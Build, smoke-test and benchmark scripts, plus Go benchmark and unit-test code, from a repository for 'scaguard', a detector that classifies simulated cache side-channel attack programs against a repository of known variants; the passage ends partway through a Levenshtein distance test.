$GO build -o "$tmp/scaguard-corpus" ./cmd/scaguard-corpus

# A small corpus keeps the smoke fast; determinism means any size
# exercises the same code paths as the 500-variant benchmark corpus.
"$tmp/scaguard-corpus" -out "$tmp/corpus.json" -per-family "$PER_FAMILY" -seed 7

# Only the target, verdict and best-match lines are compared: those are
# the indexed exact mode's bit-identity contract. The ranked tail
# legitimately differs — pruned entries report certified upper bounds,
# and which entries get pruned depends on the scan order.
"$tmp/scaguard" classify -repo "$tmp/corpus.json" -target "$TARGET" \
    | head -3 >"$tmp/flat.out"
"$tmp/scaguard" classify -repo "$tmp/corpus.json" -target "$TARGET" \
    -fast -index | head -3 >"$tmp/indexed.out"

if ! cmp -s "$tmp/flat.out" "$tmp/indexed.out"; then
    echo "index-smoke: indexed classify diverged from flat" >&2
    diff "$tmp/flat.out" "$tmp/indexed.out" >&2 || true
    exit 1
fi

"$tmp/scaguard" shard-serve -repo "$tmp/corpus.json" -shards 2 -shard-index 0 \
    -index -addr 127.0.0.1:$PORT_A &
pid_a=$!
"$tmp/scaguard" shard-serve -repo "$tmp/corpus.json" -shards 2 -shard-index 1 \
    -index -addr 127.0.0.1:$PORT_B &
pid_b=$!

for i in $(seq 1 50); do
    if "$tmp/scaguard" classify -repo "$tmp/corpus.json" -target "$TARGET" \
        -fast -index \
        -shard-addrs 127.0.0.1:$PORT_A,127.0.0.1:$PORT_B \
        >"$tmp/sharded.raw" 2>"$tmp/sharded.err"; then
        break
    fi
    if [ "$i" = 50 ]; then
        echo "index-smoke: shards never became healthy" >&2
        cat "$tmp/sharded.err" >&2
        exit 1
    fi
    sleep 0.2
done
head -3 "$tmp/sharded.raw" >"$tmp/sharded.out"

if ! cmp -s "$tmp/flat.out" "$tmp/sharded.out"; then
    echo "index-smoke: sharded indexed classify diverged from local flat" >&2
    diff "$tmp/flat.out" "$tmp/sharded.out" >&2 || true
    exit 1
fi

echo "index-smoke: OK ($(grep verdict "$tmp/flat.out"))"
