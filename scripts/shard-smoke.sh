#!/bin/sh
# End-to-end smoke test of the shard deployment path: build the CLI,
# start two shard-serve processes on loopback ports, classify a target
# across them and require the verdict line to match a single-engine
# run of the same target. Exercises the partition handshake (classify
# refuses shards whose slice disagrees with the router) and the full
# HTTP scatter-gather, not just the in-process coordinator.
set -eu

GO=${GO:-go}
TARGET=${TARGET:-ER-IAIK}
PORT_A=${PORT_A:-19411}
PORT_B=${PORT_B:-19412}

tmp=$(mktemp -d)
trap 'kill $pid_a $pid_b 2>/dev/null || true; rm -rf "$tmp"' EXIT INT TERM

$GO build -o "$tmp/scaguard" ./cmd/scaguard

"$tmp/scaguard" shard-serve -shards 2 -shard-index 0 -addr 127.0.0.1:$PORT_A &
pid_a=$!
"$tmp/scaguard" shard-serve -shards 2 -shard-index 1 -addr 127.0.0.1:$PORT_B &
pid_b=$!

# Wait for both shards to answer the health handshake (the classify
# below also handshakes; this loop just avoids racing server startup).
for i in $(seq 1 50); do
    if "$tmp/scaguard" classify -target "$TARGET" \
        -shard-addrs 127.0.0.1:$PORT_A,127.0.0.1:$PORT_B \
        >"$tmp/sharded.out" 2>"$tmp/sharded.err"; then
        break
    fi
    if [ "$i" = 50 ]; then
        echo "shard-smoke: shards never became healthy" >&2
        cat "$tmp/sharded.err" >&2
        exit 1
    fi
    sleep 0.2
done

"$tmp/scaguard" classify -target "$TARGET" >"$tmp/single.out"

if ! cmp -s "$tmp/single.out" "$tmp/sharded.out"; then
    echo "shard-smoke: sharded classify diverged from single-engine" >&2
    diff "$tmp/single.out" "$tmp/sharded.out" >&2 || true
    exit 1
fi

echo "shard-smoke: OK ($(grep verdict "$tmp/sharded.out"))"
