#!/bin/sh
# Benchmark regression guards. Two sections, both ratio-based because
# absolute thresholds are useless across machines — CI boxes here vary
# 2x run to run; the best-of-COUNT minimum is compared, which filters
# most scheduler noise out of both sides of every ratio.
#
# Section 1 — cascade. Runs the repository-scan benchmark (Serial /
# Engine / Pruned / Cascade over the full attack corpus), writes the
# measured ns/op figures to BENCH_cascade.json, and fails if the
# cascade regresses RELATIVE to the plain pruned scan on the same run:
#
#   cascade <= pruned * TOLERANCE      (default 1.25)
#   pruned  <= serial                  (pruning must never lose outright)
#
# The first is the property this tree actually promises (see
# docs/PERFORMANCE.md "The pruning cascade"): ordering by the cheap
# tier-1/2 bounds and gating the tier-3 bound must beat — or at worst,
# within scheduler noise, match — computing the tier-3 bound for every
# entry.
#
# Section 2 — repository index. Runs the indexed-scan benchmark (Flat /
# Cascade / Indexed over the 500-variant mutation stress corpus, the
# variant re-scoring sweep of docs/INDEXING.md), writes BENCH_index.json
# and enforces the index's headline promise:
#
#   flat_pruned >= indexed * INDEX_SPEEDUP   (default 3)
set -eu

GO=${GO:-go}
COUNT=${COUNT:-3}
BENCHTIME=${BENCHTIME:-0.5s}
TOLERANCE=${TOLERANCE:-1.25}
INDEX_SPEEDUP=${INDEX_SPEEDUP:-3}
OUT=${OUT:-BENCH_cascade.json}
OUT_INDEX=${OUT_INDEX:-BENCH_index.json}

cd "$(dirname "$0")/.."

raw=$(mktemp)
trap 'rm -f "$raw"' EXIT INT TERM

$GO test -run xxx -bench BenchmarkRepositoryScan \
    -benchtime "$BENCHTIME" -count "$COUNT" . | tee "$raw"

awk -v tol="$TOLERANCE" -v out="$OUT" '
/^BenchmarkRepositoryScan\// {
    # BenchmarkRepositoryScan/Cascade-8  20416  94561 ns/op ...
    name = $1
    sub(/^BenchmarkRepositoryScan\//, "", name)
    sub(/-[0-9]+$/, "", name)
    ns = $3 + 0
    if (!(name in best) || ns < best[name]) best[name] = ns
}
END {
    split("Serial Engine Pruned Cascade", want, " ")
    for (i in want) {
        if (!(want[i] in best)) {
            printf "bench-check: missing benchmark %s\n", want[i] > "/dev/stderr"
            exit 1
        }
    }
    ratio = best["Cascade"] / best["Pruned"]
    printf "{\n" > out
    printf "  \"benchmark\": \"BenchmarkRepositoryScan\",\n" > out
    printf "  \"unit\": \"ns/op\",\n" > out
    printf "  \"serial\": %.0f,\n", best["Serial"] > out
    printf "  \"engine\": %.0f,\n", best["Engine"] > out
    printf "  \"pruned\": %.0f,\n", best["Pruned"] > out
    printf "  \"cascade\": %.0f,\n", best["Cascade"] > out
    printf "  \"cascade_vs_pruned\": %.3f,\n", ratio > out
    printf "  \"tolerance\": %.3f\n", tol > out
    printf "}\n" > out
    printf "bench-check: serial=%.0f engine=%.0f pruned=%.0f cascade=%.0f (cascade/pruned = %.3f, tolerance %.2f)\n",
        best["Serial"], best["Engine"], best["Pruned"], best["Cascade"], ratio, tol
    if (ratio > tol) {
        printf "bench-check: FAILED — cascade regressed %.3fx vs pruned (limit %.2fx)\n", ratio, tol > "/dev/stderr"
        exit 1
    }
    if (best["Pruned"] > best["Serial"]) {
        printf "bench-check: FAILED — pruned scan (%.0f ns/op) slower than serial (%.0f ns/op)\n",
            best["Pruned"], best["Serial"] > "/dev/stderr"
        exit 1
    }
}' "$raw"

echo "bench-check: OK — figures written to $OUT"

$GO test -run xxx -bench BenchmarkIndexedScan \
    -benchtime "$BENCHTIME" -count "$COUNT" ./internal/scan/ | tee "$raw"

awk -v speedup="$INDEX_SPEEDUP" -v out="$OUT_INDEX" '
/^BenchmarkIndexedScan\// {
    name = $1
    sub(/^BenchmarkIndexedScan\//, "", name)
    sub(/-[0-9]+$/, "", name)
    ns = $3 + 0
    if (!(name in best) || ns < best[name]) best[name] = ns
}
END {
    split("Flat Cascade Indexed", want, " ")
    for (i in want) {
        if (!(want[i] in best)) {
            printf "bench-check: missing benchmark %s\n", want[i] > "/dev/stderr"
            exit 1
        }
    }
    ratio = best["Flat"] / best["Indexed"]
    printf "{\n" > out
    printf "  \"benchmark\": \"BenchmarkIndexedScan\",\n" > out
    printf "  \"unit\": \"ns/op\",\n" > out
    printf "  \"corpus\": \"detect.BuildVariantRepository PerFamily=125 Seed=1 (500 variants)\",\n" > out
    printf "  \"flat_pruned\": %.0f,\n", best["Flat"] > out
    printf "  \"cascade\": %.0f,\n", best["Cascade"] > out
    printf "  \"indexed\": %.0f,\n", best["Indexed"] > out
    printf "  \"flat_vs_indexed\": %.3f,\n", ratio > out
    printf "  \"required_speedup\": %.3f\n", speedup > out
    printf "}\n" > out
    printf "bench-check: flat=%.0f cascade=%.0f indexed=%.0f (flat/indexed = %.3f, required >= %.2f)\n",
        best["Flat"], best["Cascade"], best["Indexed"], ratio, speedup
    if (ratio < speedup) {
        printf "bench-check: FAILED — indexed scan only %.3fx over flat pruned (need %.2fx)\n", ratio, speedup > "/dev/stderr"
        exit 1
    }
}' "$raw"

echo "bench-check: OK — figures written to $OUT_INDEX"
