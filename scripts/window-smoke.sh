#!/bin/sh
# End-to-end smoke test of online sliding-window detection
# (docs/WINDOWING.md): build the CLI, then prove the operator-facing
# contract:
#
#   1. `scaguard watch` flags an in-flight Flush+Reload MID-TRACE —
#      before the run ends — and reports the latency-to-detection
#      metric;
#   2. a benign workload watched the same way stays clean: zero hits,
#      no detection;
#   3. the pruned+indexed per-window scan path reaches the same
#      aggregate verdict as the exact one;
#   4. nonsense numeric knobs are rejected up front with an error
#      naming the flag;
#   5. BenchmarkWindowedDetection runs and reports cycles-to-detect
#      (the latency metric survives the benchmark harness).
set -eu

GO=${GO:-go}
TARGET=${TARGET:-FR-IAIK}
BENIGN=${BENIGN:-crypto/aes-ttable/7}

tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM

$GO build -o "$tmp/scaguard" ./cmd/scaguard

# 1. The attack is flagged mid-trace with a latency figure.
"$tmp/scaguard" watch -target "$TARGET" >"$tmp/attack.out"
grep -q 'ATTACK FLAGGED MID-TRACE' "$tmp/attack.out" || {
    echo "window-smoke: $TARGET not flagged mid-trace" >&2
    cat "$tmp/attack.out" >&2
    exit 1
}
grep -q 'latency-to-detection' "$tmp/attack.out" || {
    echo "window-smoke: no latency-to-detection in the summary" >&2
    cat "$tmp/attack.out" >&2
    exit 1
}
verdict_exact=$(sed -n 's/^verdict: *\([A-Za-z-]*\).*/\1/p' "$tmp/attack.out")
case $verdict_exact in
    Benign|'')
        echo "window-smoke: watch verdict for $TARGET is '$verdict_exact'" >&2
        exit 1 ;;
esac

# 2. A benign workload stays clean.
"$tmp/scaguard" watch -benign "$BENIGN" >"$tmp/benign.out"
grep -q 'detected:  no' "$tmp/benign.out" || {
    echo "window-smoke: benign $BENIGN reported a detection" >&2
    cat "$tmp/benign.out" >&2
    exit 1
}
if grep -q 'ATTACK FLAGGED' "$tmp/benign.out"; then
    echo "window-smoke: benign $BENIGN flagged as an attack" >&2
    cat "$tmp/benign.out" >&2
    exit 1
fi

# 3. The pruned+indexed per-window scan agrees with the exact one.
"$tmp/scaguard" watch -target "$TARGET" -fast -index >"$tmp/indexed.out"
verdict_indexed=$(sed -n 's/^verdict: *\([A-Za-z-]*\).*/\1/p' "$tmp/indexed.out")
if [ "$verdict_exact" != "$verdict_indexed" ]; then
    echo "window-smoke: exact ($verdict_exact) and indexed ($verdict_indexed) watch verdicts disagree" >&2
    exit 1
fi

# 4. Nonsense knobs fail fast, naming the flag.
if "$tmp/scaguard" watch -target "$TARGET" -window -5 2>"$tmp/badflag.err"; then
    echo "window-smoke: negative -window accepted" >&2
    exit 1
fi
grep -q -- '-window' "$tmp/badflag.err" || {
    echo "window-smoke: bad-flag error does not name -window: $(cat "$tmp/badflag.err")" >&2
    exit 1
}

# 5. The windowed-detection benchmark runs and reports the latency
# metric (short benchtime: this is a smoke, bench-index has the
# figures).
$GO test -run xxx -bench BenchmarkWindowedDetection/Golden -benchtime 0.2s \
    ./internal/window >"$tmp/bench.out"
grep -q 'cycles-to-detect' "$tmp/bench.out" || {
    echo "window-smoke: benchmark reports no cycles-to-detect metric" >&2
    cat "$tmp/bench.out" >&2
    exit 1
}
lat=$(sed -n 's/.* \([0-9.]*\) cycles-to-detect.*/\1/p' "$tmp/bench.out" | head -n 1)

echo "window-smoke: OK ($TARGET flagged mid-trace, $BENIGN clean, exact==indexed=$verdict_exact, bad knobs rejected, bench latency ${lat} cycles)"
