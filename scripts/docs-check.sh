#!/bin/sh
# Intra-repo markdown link checker: every relative link target in every
# tracked .md file must exist. External links (http/https/mailto) and
# pure #anchors are skipped — the check catches the drift that actually
# happens here: a doc renamed or a section moved while another doc
# still points at the old path.
set -eu

cd "$(dirname "$0")/.."

fail=0
for f in $(git ls-files '*.md'); do
    dir=$(dirname "$f")
    # Pull out the (target) of every [text](target), one per line.
    # Inline code spans are stripped first so `[i](j)` examples in code
    # don't count as links.
    targets=$(sed 's/`[^`]*`//g' "$f" \
        | grep -o '\[[^][]*\]([^()]*)' \
        | sed 's/.*](\([^()]*\))/\1/') || continue
    for t in $targets; do
        case "$t" in
        http://*|https://*|mailto:*|\#*) continue ;;
        esac
        path=${t%%#*}
        [ -n "$path" ] || continue
        case "$path" in
        /*) resolved=".$path" ;;
        *) resolved="$dir/$path" ;;
        esac
        if [ ! -e "$resolved" ]; then
            echo "docs-check: $f links to missing $t" >&2
            fail=1
        fi
    done
done

if [ "$fail" != 0 ]; then
    echo "docs-check: FAILED — fix the links above" >&2
    exit 1
fi
echo "docs-check: OK (all intra-repo markdown links resolve)"
