package scaguard

// The benchmark harness regenerates every table and figure of the
// paper's evaluation (run with `go test -bench=. -benchmem`):
//
//	BenchmarkTableIV        — attack-relevant BB identification accuracy
//	BenchmarkTableV         — similarity of the five scenarios S1-S5
//	BenchmarkTableVI_E*     — classification P/R/F1 of all 5 approaches
//	BenchmarkFig5           — threshold sweep plateau
//	BenchmarkDetectionCost* — per-approach detection cost (Section V)
//	BenchmarkAblation*      — design-choice ablations from DESIGN.md §5
//
// Quality numbers are attached to each benchmark via b.ReportMetric, so
// a single -bench run prints both performance and reproduction metrics.
// Scale the corpora with -scaguard.perclass (default 12; the paper uses
// 400).

import (
	"flag"
	"fmt"
	"testing"

	"repro/internal/experiments"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/similarity"
)

var benchPerClass = flag.Int("scaguard.perclass", 12, "samples per class for Table VI / Fig 5 benchmarks")

func benchConfig() experiments.Config {
	cfg := experiments.DefaultConfig()
	cfg.PerClass = *benchPerClass
	cfg.Folds = 5
	return cfg
}

// BenchmarkTableIV regenerates Table IV and reports the average
// identification accuracy and the block-reduction ratio.
func BenchmarkTableIV(b *testing.B) {
	var rows []experiments.TableIVRow
	for i := 0; i < b.N; i++ {
		var err error
		rows, err = experiments.TableIV(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
	}
	avg := rows[len(rows)-1]
	_, _, reduction := experiments.ReductionStats(rows)
	b.ReportMetric(avg.Accuracy*100, "accuracy_%")
	b.ReportMetric(reduction*100, "reduction_%")
	if b.N == 1 {
		b.Logf("\n%s", experiments.FormatTableIV(rows))
	}
}

// BenchmarkTableV regenerates the five similarity scenarios.
func BenchmarkTableV(b *testing.B) {
	var rows []experiments.TableVRow
	for i := 0; i < b.N; i++ {
		var err error
		rows, err = experiments.TableV(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
	}
	for _, r := range rows {
		b.ReportMetric(r.Score*100, r.No+"_%")
	}
	if b.N == 1 {
		b.Logf("\n%s", experiments.FormatTableV(rows))
	}
}

// tableVI runs the full Table VI once per benchmark iteration and
// reports the named task's SCAGuard and best-baseline F1.
func benchTableVITask(b *testing.B, task string) {
	var results []experiments.TaskResult
	for i := 0; i < b.N; i++ {
		var err error
		results, err = experiments.TableVI(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
	}
	for _, tr := range results {
		if tr.Task != task {
			continue
		}
		bestBaseline := 0.0
		for _, r := range tr.Results {
			switch r.Approach {
			case "SCAGUARD":
				b.ReportMetric(r.Scores.Precision*100, "scaguard_P_%")
				b.ReportMetric(r.Scores.Recall*100, "scaguard_R_%")
				b.ReportMetric(r.Scores.F1*100, "scaguard_F1_%")
			default:
				if r.Scores.F1 > bestBaseline {
					bestBaseline = r.Scores.F1
				}
			}
		}
		b.ReportMetric(bestBaseline*100, "best_baseline_F1_%")
		if b.N == 1 {
			b.Logf("\n%s", experiments.FormatTableVI([]experiments.TaskResult{tr}))
		}
	}
}

// BenchmarkTableVI_E1 — classification of mutated variants.
func BenchmarkTableVI_E1(b *testing.B) { benchTableVITask(b, "E1") }

// BenchmarkTableVI_E2 — classification of Spectre-like variants.
func BenchmarkTableVI_E2(b *testing.B) { benchTableVITask(b, "E2") }

// BenchmarkTableVI_E3_1 — generalizability: PP known only through FR.
func BenchmarkTableVI_E3_1(b *testing.B) { benchTableVITask(b, "E3-1") }

// BenchmarkTableVI_E3_2 — generalizability: FR known only through PP.
func BenchmarkTableVI_E3_2(b *testing.B) { benchTableVITask(b, "E3-2") }

// BenchmarkTableVI_E4 — robustness against obfuscated variants.
func BenchmarkTableVI_E4(b *testing.B) { benchTableVITask(b, "E4") }

// BenchmarkFig5 regenerates the threshold sweep and reports the plateau.
func BenchmarkFig5(b *testing.B) {
	var points []experiments.Fig5Point
	for i := 0; i < b.N; i++ {
		var err error
		points, err = experiments.Fig5(benchConfig(), nil)
		if err != nil {
			b.Fatal(err)
		}
	}
	lo, hi, ok := experiments.PlateauRange(points, 0.80)
	if ok {
		b.ReportMetric(lo*100, "plateau_lo_%")
		b.ReportMetric(hi*100, "plateau_hi_%")
	}
	if b.N == 1 {
		b.Logf("\n%s", experiments.FormatFig5(points))
	}
}

// BenchmarkDetectionCostSCAGuard measures one full SCAGuard detection
// (trace collection + modeling + repository comparison), the quantity
// of Section V's time-cost discussion.
func BenchmarkDetectionCostSCAGuard(b *testing.B) {
	det, err := NewDetector()
	if err != nil {
		b.Fatal(err)
	}
	poc := MustAttack("FR-Mastik")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := det.Classify(poc.Program, poc.Victim); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDetectionCostModelOnly isolates the modeling stage.
func BenchmarkDetectionCostModelOnly(b *testing.B) {
	poc := MustAttack("FR-Mastik")
	for i := 0; i < b.N; i++ {
		if _, err := BuildModel(poc.Program, poc.Victim); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkSimilarityDTW isolates the CST-BBS comparison.
func BenchmarkSimilarityDTW(b *testing.B) {
	a := MustAttack("FR-IAIK")
	c := MustAttack("PP-IAIK")
	ma, err := BuildModel(a.Program, a.Victim)
	if err != nil {
		b.Fatal(err)
	}
	mc, err := BuildModel(c.Program, c.Victim)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Score(ma.BBS, mc.BBS)
	}
}

// --- ablations (DESIGN.md §5) --------------------------------------------

// ablationGap reports how much a similarity configuration separates a
// true variant pair from an attack/benign pair: gap = variantScore -
// benignScore. Bigger is better; the ablations show each design choice's
// contribution.
func ablationGap(b *testing.B, opts similarity.Options, frBBS, variantBBS, benignBBS *model.CSTBBS) {
	var variant, benignScore float64
	for i := 0; i < b.N; i++ {
		variant = similarity.Score(frBBS, variantBBS, opts)
		benignScore = similarity.Score(frBBS, benignBBS, opts)
	}
	b.ReportMetric(variant*100, "variant_%")
	b.ReportMetric(benignScore*100, "benign_%")
	b.ReportMetric((variant-benignScore)*100, "gap_%")
}

func ablationModels(b *testing.B) (fr, variant, ben *model.CSTBBS) {
	b.Helper()
	a := MustAttack("FR-IAIK")
	v := MustAttack("ER-IAIK")
	ma, err := BuildModel(a.Program, a.Victim)
	if err != nil {
		b.Fatal(err)
	}
	mv, err := BuildModel(v.Program, v.Victim)
	if err != nil {
		b.Fatal(err)
	}
	bp, err := GenerateBenign("crypto", "aes-ttable", 1)
	if err != nil {
		b.Fatal(err)
	}
	mb, err := BuildModel(bp, nil)
	if err != nil {
		b.Fatal(err)
	}
	return ma.BBS, mv.BBS, mb.BBS
}

// BenchmarkAblationFull is the reference configuration.
func BenchmarkAblationFull(b *testing.B) {
	fr, v, ben := ablationModels(b)
	b.ResetTimer()
	ablationGap(b, similarity.DefaultOptions(), fr, v, ben)
}

// BenchmarkAblationNoCST removes the cache-state term: similarity from
// syntax alone (shows why CST enhancement matters).
func BenchmarkAblationNoCST(b *testing.B) {
	fr, v, ben := ablationModels(b)
	b.ResetTimer()
	ablationGap(b, similarity.Options{ISWeight: 1, CSPWeight: 1e-9}, fr, v, ben)
}

// BenchmarkAblationNoIS removes the instruction term: similarity from
// cache semantics alone.
func BenchmarkAblationNoIS(b *testing.B) {
	fr, v, ben := ablationModels(b)
	b.ResetTimer()
	ablationGap(b, similarity.Options{ISWeight: 1e-9, CSPWeight: 1}, fr, v, ben)
}

// BenchmarkAblationNoReduction compares whole-CFG models (every block
// with any trace activity, no attack-relevant filtering) — the paper's
// argument for the reduction pipeline.
func BenchmarkAblationNoReduction(b *testing.B) {
	buildFull := func(name string) *model.CSTBBS {
		poc, err := Attack(name)
		if err != nil {
			b.Fatal(err)
		}
		m, err := BuildModel(poc.Program, poc.Victim)
		if err != nil {
			b.Fatal(err)
		}
		return m.BBS
	}
	fr := buildFull("FR-IAIK")
	pp := buildFull("PP-IAIK")
	var reduced float64
	for i := 0; i < b.N; i++ {
		reduced = similarity.Score(fr, pp, similarity.DefaultOptions())
	}
	// The reduced models keep families separable; report the
	// cross-family score that the classifier must stay below the
	// within-family scores.
	b.ReportMetric(reduced*100, "cross_family_%")
	b.ReportMetric(float64(fr.Len()), "fr_model_blocks")
	b.ReportMetric(float64(pp.Len()), "pp_model_blocks")
}

// BenchmarkAblationNoNormalization compares raw (non-normalized)
// instruction text, i.e. without the imm/mem/reg rewrite. Mutated
// variants then look dissimilar although their behavior is identical.
func BenchmarkAblationNoNormalization(b *testing.B) {
	poc := MustAttack("FR-IAIK")
	mut, err := MutateVariant(poc.Program, 3)
	if err != nil {
		b.Fatal(err)
	}
	orig, err := BuildModel(poc.Program, poc.Victim)
	if err != nil {
		b.Fatal(err)
	}
	variant, err := BuildModel(mut, poc.Victim)
	if err != nil {
		b.Fatal(err)
	}
	// Raw text: substitute each normalized token sequence with the raw
	// disassembly of the blocks.
	raw := func(m *model.Model) *model.CSTBBS {
		out := &model.CSTBBS{Name: m.Name + "-raw"}
		for _, c := range m.BBS.Seq {
			cc := c
			bb, ok := m.CFG.Block(c.Leader)
			if ok {
				var rawSeq []string
				for _, in := range bb.Insns {
					rawSeq = append(rawSeq, in.String())
				}
				cc.NormInsns = rawSeq
			}
			out.Seq = append(out.Seq, cc)
		}
		return out
	}
	var normScore, rawScore float64
	for i := 0; i < b.N; i++ {
		normScore = similarity.Score(orig.BBS, variant.BBS, similarity.DefaultOptions())
		rawScore = similarity.Score(raw(orig), raw(variant), similarity.DefaultOptions())
	}
	b.ReportMetric(normScore*100, "normalized_%")
	b.ReportMetric(rawScore*100, "raw_%")
	b.ReportMetric((normScore-rawScore)*100, "gain_%")
}

// BenchmarkAblationNaiveUnion replaces Algorithm 1's MST construction
// with the naive union of all relevant blocks (no path restoration),
// reporting the resulting model-size difference.
func BenchmarkAblationNaiveUnion(b *testing.B) {
	poc := MustAttack("FR-IAIK")
	var withMST, naive int
	for i := 0; i < b.N; i++ {
		m, err := BuildModel(poc.Program, poc.Victim)
		if err != nil {
			b.Fatal(err)
		}
		withMST = len(m.IdentifiedBBs())
		naive = len(m.RelevantBBs)
	}
	b.ReportMetric(float64(withMST), "mst_blocks")
	b.ReportMetric(float64(naive), "naive_blocks")
}

// scanCorpus builds a realistically sized repository (every canonical
// PoC plus mutated variants) and a set of distinct scan targets.
func scanCorpus(b *testing.B) (entries, targets []*model.CSTBBS) {
	b.Helper()
	build := func(prog, victim *Program) *model.CSTBBS {
		m, err := BuildModel(prog, victim)
		if err != nil {
			b.Fatal(err)
		}
		return m.BBS
	}
	for _, name := range AttackNames() {
		poc := MustAttack(name)
		entries = append(entries, build(poc.Program, poc.Victim))
		for seed := int64(0); seed < 2; seed++ {
			mut, err := MutateVariant(poc.Program, seed)
			if err != nil {
				b.Fatal(err)
			}
			entries = append(entries, build(mut, poc.Victim))
		}
	}
	for _, name := range []string{"FR-Mastik", "ER-IAIK", "PP-Jzhang", "S-FR-Good"} {
		poc := MustAttack(name)
		mut, err := MutateVariant(poc.Program, 7)
		if err != nil {
			b.Fatal(err)
		}
		targets = append(targets, build(mut, poc.Victim))
	}
	return entries, targets
}

// BenchmarkRepositoryScan measures one full repository scan per
// iteration — the similarity-comparison stage that dominates detection
// latency (Section V) — under the three engine configurations:
//
//	Serial   — the reference loop (similarity.Score per entry)
//	Engine   — exact scan: worker pool + memoized Levenshtein + O(m) DTW
//	Pruned   — Engine plus lower-bound and early-abandon pruning
//
// Targets round-robin across distinct models so the cache is exercised
// the way a deployment stream exercises it (recurring blocks, varying
// targets). The measured speedups are recorded in docs/PERFORMANCE.md.
func BenchmarkRepositoryScan(b *testing.B) {
	entries, targets := scanCorpus(b)
	run := func(b *testing.B, scanOne func(eng *scan.Engine, t *model.CSTBBS)) {
		eng := scan.New(entries, scan.Config{Sim: similarity.DefaultOptions()})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			scanOne(eng, targets[i%len(targets)])
		}
		b.ReportMetric(float64(len(entries)), "entries")
	}
	b.Run("Serial", func(b *testing.B) {
		run(b, func(eng *scan.Engine, t *model.CSTBBS) { eng.ScanSerial(t) })
	})
	b.Run("Engine", func(b *testing.B) {
		run(b, func(eng *scan.Engine, t *model.CSTBBS) { eng.Scan(t) })
	})
	b.Run("Pruned", func(b *testing.B) {
		eng := scan.New(entries, scan.Config{Prune: true, Sim: similarity.DefaultOptions()})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Scan(targets[i%len(targets)])
		}
		b.ReportMetric(float64(len(entries)), "entries")
	})
	b.Run("Cascade", func(b *testing.B) {
		eng := scan.New(entries, scan.Config{Prune: true, Cascade: true, Sim: similarity.DefaultOptions()})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Scan(targets[i%len(targets)])
		}
		b.ReportMetric(float64(len(entries)), "entries")
	})
}

// BenchmarkTelemetryOverhead measures the cost of instrumentation on
// the pruned repository scan — the hottest instrumented path. "Off" is
// the nil-collector fast path every production scan without -stats
// takes; "On" attaches a live collector. The acceptance bar is an
// Off-vs-baseline regression under 2%; Off and On should also be close,
// since the per-entry work is a handful of uncontended atomic adds.
func BenchmarkTelemetryOverhead(b *testing.B) {
	entries, targets := scanCorpus(b)
	run := func(b *testing.B, tel *Telemetry) {
		eng := scan.New(entries, scan.Config{
			Prune:     true,
			Sim:       similarity.DefaultOptions(),
			Telemetry: tel,
		})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Scan(targets[i%len(targets)])
		}
	}
	b.Run("Off", func(b *testing.B) { run(b, nil) })
	b.Run("On", func(b *testing.B) { run(b, NewTelemetry()) })
}

// BenchmarkEndToEndAttack measures a full simulated Flush+Reload attack
// run (the substrate's speed).
func BenchmarkEndToEndAttack(b *testing.B) {
	poc := MustAttack("FR-IAIK")
	for i := 0; i < b.N; i++ {
		if _, err := BuildModel(poc.Program, poc.Victim); err != nil {
			b.Fatal(err)
		}
	}
}

// Example of the one-call API.
func Example() {
	det, err := NewDetector()
	if err != nil {
		panic(err)
	}
	poc := MustAttack("ER-IAIK") // a variant outside the repository
	res, _, err := det.Classify(poc.Program, poc.Victim)
	if err != nil {
		panic(err)
	}
	fmt.Println(res.Predicted)
	// Output: FR-F
}
