package textdist

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestLevenshteinBasic(t *testing.T) {
	cases := []struct {
		a, b []string
		want int
	}{
		{nil, nil, 0},
		{[]string{"a"}, nil, 1},
		{nil, []string{"a", "b"}, 2},
		{[]string{"a"}, []string{"a"}, 0},
		{[]string{"a"}, []string{"b"}, 1},
		{[]string{"mov reg, imm", "add reg, reg"}, []string{"mov reg, imm", "add reg, reg"}, 0},
		{[]string{"mov", "add", "sub"}, []string{"mov", "sub"}, 1},
		{[]string{"k", "i", "t", "t", "e", "n"}, []string{"s", "i", "t", "t", "i", "n", "g"}, 3},
		{[]string{"a", "b", "c"}, []string{"c", "b", "a"}, 2},
	}
	for i, c := range cases {
		if got := Levenshtein(c.a, c.b); got != c.want {
			t.Errorf("case %d: lev(%v,%v) = %d, want %d", i, c.a, c.b, got, c.want)
		}
	}
}

func TestNormalized(t *testing.T) {
	if got := Normalized(nil, nil); got != 0 {
		t.Errorf("empty = %v", got)
	}
	if got := Normalized([]string{"a", "b"}, nil); got != 1 {
		t.Errorf("vs empty = %v", got)
	}
	if got := Normalized([]string{"a", "b"}, []string{"a", "b"}); got != 0 {
		t.Errorf("equal = %v", got)
	}
	if got := Normalized([]string{"a", "b"}, []string{"a", "c"}); got != 0.5 {
		t.Errorf("half = %v", got)
	}
}

func randSeq(rng *rand.Rand, n int) []string {
	alphabet := []string{"mov", "add", "sub", "cmp", "jmp"}
	out := make([]string, n)
	for i := range out {
		out[i] = alphabet[rng.Intn(len(alphabet))]
	}
	return out
}

// Metric properties: identity, symmetry, triangle inequality, and the
// normalized distance staying in [0,1].
func TestLevenshteinMetricProperties(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a := randSeq(rng, rng.Intn(12))
		b := randSeq(rng, rng.Intn(12))
		c := randSeq(rng, rng.Intn(12))
		dab, dba := Levenshtein(a, b), Levenshtein(b, a)
		if dab != dba {
			return false
		}
		if Levenshtein(a, a) != 0 {
			return false
		}
		if Levenshtein(a, c) > dab+Levenshtein(b, c) {
			return false
		}
		n := Normalized(a, b)
		return n >= 0 && n <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Distance is bounded by max length and at least the length difference.
func TestLevenshteinBounds(t *testing.T) {
	f := func(seed int64) bool {
